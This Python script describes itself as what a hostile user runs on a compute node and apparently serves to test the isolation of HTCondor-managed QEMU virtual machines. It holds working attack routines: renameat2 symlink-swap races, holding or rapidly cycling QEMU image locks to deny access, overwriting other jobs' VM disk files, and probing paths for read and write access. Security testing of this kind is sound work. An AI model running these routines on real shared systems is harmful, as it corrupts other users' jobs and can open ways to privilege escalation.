#!/usr/bin/python3
"""What an attacking user runs on the node, in an ordinary job: `hostile_user.py ACTION WORD…`. Prints what it did."""

import contextlib
import ctypes
import fcntl
import glob
import os
import sys
import time

_EXCHANGE = 2  # renameat2(2)
_AT_FDCWD = -100
# QEMU's bytes for the permissions that a guest may have, and may deny others: what a read lock can cover
_FIRST, _LENGTH = 100, 101


def swap(target: str, end: str, *paths: str) -> None:
    """Until there is a file `end`: exchange files with symlinks, as fast as possible. Prints how often."""
    exchange, count = ctypes.CDLL(None).renameat2, 0
    pairs = [(path.encode(), f"{path}.swapped".encode()) for path in paths]
    for _, beside in pairs:
        os.symlink(target, beside)
    while not os.path.exists(end):
        for _ in range(1000):
            for here, beside in pairs:
                count += exchange(_AT_FDCWD, here, _AT_FDCWD, beside, _EXCHANGE) == 0
    for here, beside in pairs:
        if os.path.islink(here):
            os.replace(beside, here)
        else:
            os.unlink(beside)
    print(count)


def lock(path: str, end: str) -> None:
    """Until there is a file `end`: hold the lock that a user of an image would hold who denies it to others."""
    with open(path, "rb") as image:
        fcntl.lockf(image, fcntl.LOCK_SH, _LENGTH, _FIRST)
        _wait(end)


def lock_often(path: str, end: str) -> None:
    """As lock(), but take it and let go of it, as fast as possible. Prints how often."""
    count = 0
    with open(path, "rb") as image:
        while not os.path.exists(end):
            for _ in range(100):
                fcntl.lockf(image, fcntl.LOCK_SH, _LENGTH, _FIRST)
                fcntl.lockf(image, fcntl.LOCK_UN, _LENGTH, _FIRST)
                count += 1
    print(count)


def spoil(name: str, end: str) -> None:
    """Until there is a file `end`: write into a disk once its guest is about to start. Prints how often."""
    count = 0
    while not os.path.exists(end):
        directories = "/var/lib/condor/execute/dir_*"
        for console in glob.glob(f"{directories}/scratch/console.log") + glob.glob(f"{directories}/console.log"):
            with contextlib.suppress(OSError):
                disk = os.open(f"{os.path.dirname(console)}/{name}", os.O_WRONLY)
                count += os.pwrite(disk, b"spoilt", 0) > 0
                os.close(disk)
    print(count)


def reach(paths: str, found: str) -> None:
    """Try each file that a list names: write a line `r PATH` for each that can be read, `w PATH` if also written."""
    with open(paths, encoding="utf-8", errors="surrogateescape") as file:
        names = file.read().splitlines()
    with open(found, "w", encoding="utf-8", errors="surrogateescape") as answer:
        print("uid", *os.getresuid(), file=answer)
        print("groups", *sorted({os.getgid(), *os.getgroups()}), file=answer)
        with open("/proc/self/status", encoding="ascii") as status:
            print(
                *(line.strip().replace("\t", " ") for line in status if line.startswith("Cap")), sep="\n", file=answer
            )
        for letter, flags in (("r", os.O_RDONLY), ("w", os.O_WRONLY)):
            for name in names:
                try:
                    os.close(os.open(name, flags | os.O_NONBLOCK | os.O_NOCTTY))
                except OSError:
                    continue
                print(letter, name, file=answer)


def _wait(end: str) -> None:
    while not os.path.exists(end):
        time.sleep(0.1)


ACTIONS = {"lock": lock, "lock_often": lock_often, "reach": reach, "spoil": spoil}

if __name__ == "__main__":
    if sys.argv[1] == "swap":
        swap(*sys.argv[2:])
    else:
        ACTIONS[sys.argv[1]](sys.argv[2], sys.argv[3])
